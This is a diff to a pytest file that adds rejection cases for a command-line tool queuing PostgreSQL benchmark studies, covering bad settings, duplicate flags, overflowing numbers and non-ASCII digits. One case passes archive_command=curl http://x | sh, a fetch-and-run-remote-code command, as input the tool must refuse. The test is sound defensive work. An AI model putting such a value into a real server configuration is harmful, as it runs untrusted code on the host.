@@ -41,6 +41,15 @@ def test_it_prints_the_id_of_the_study_it_queued(local_rows, broker):
         (["--duration", "ten"], "duration_s"),
         (["--clients", "1,1"], "given twice"),
         (["--setting", "no_such_setting=1"], "Unknown setting name: no_such_setting"),
+        (["--setting", "archive_command=curl http://x | sh"], "archive_command runs a command"),
+        (["--setting", "listen_addresses=*"], "listen_addresses decides where the server listens"),
+        (["--setting", "shared_buffers=banana"], "shared_buffers = banana: PostgreSQL 15 wants a number"),
+        (["--setting", "work_mem=4MB", "--setting", "work_mem=8MB"], "work_mem is set twice"),
+        (["--clients", "1,²"], "² is not a positive whole number"),
+        (["--clients", "100000000000000000000"], "is not a positive whole number"),
+        (["--duration", "86400"], "At most 3000 s"),
+        (["--seed", "2147483648"], "2147483647"),
+        (["--scale", "１"], "digits 0 to 9"),
     ],
 )
 def test_it_refuses_what_the_form_refuses_and_saves_nothing(local_rows, args, message):
